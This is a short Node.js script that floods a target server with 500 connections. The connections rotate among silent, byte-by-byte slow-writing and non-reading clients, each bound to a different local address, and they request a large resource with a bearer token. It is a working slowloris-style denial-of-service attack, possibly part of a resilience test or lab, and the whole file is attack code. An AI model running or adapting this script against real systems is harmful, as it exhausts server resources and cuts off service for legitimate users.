import { connect } from 'node:net';
import { addressOf, flood, orders } from './attack.mjs';

const { hostname, port } = new URL(orders.base);
const request = `GET ${orders.large} HTTP/1.1\r\nHost: roster\r\nAuthorization: Bearer ${orders.token}\r\n\r\n`;

/** Kinds of clients, which take turns. */
const KINDS = [
  function silent() {},
  function slow(socket) {
    let sent = 0;
    const timer = setInterval(() => socket.write(request[(sent += 1) - 1]), 1000);
    socket.on('close', () => clearInterval(timer));
  },
  function nonReading(socket) {
    socket.pause();
    socket.write(request);
  },
];

flood(
  (connection) =>
    new Promise((resolve) => {
      const behave = KINDS[connection % KINDS.length];
      const socket = connect({ host: hostname, port, localAddress: addressOf(connection) }, () => behave(socket));
      if (behave !== KINDS[2]) socket.resume();
      socket.on('error', () => undefined).on('close', () => resolve(`${behave.name} closed`));
    }),
  500,
);
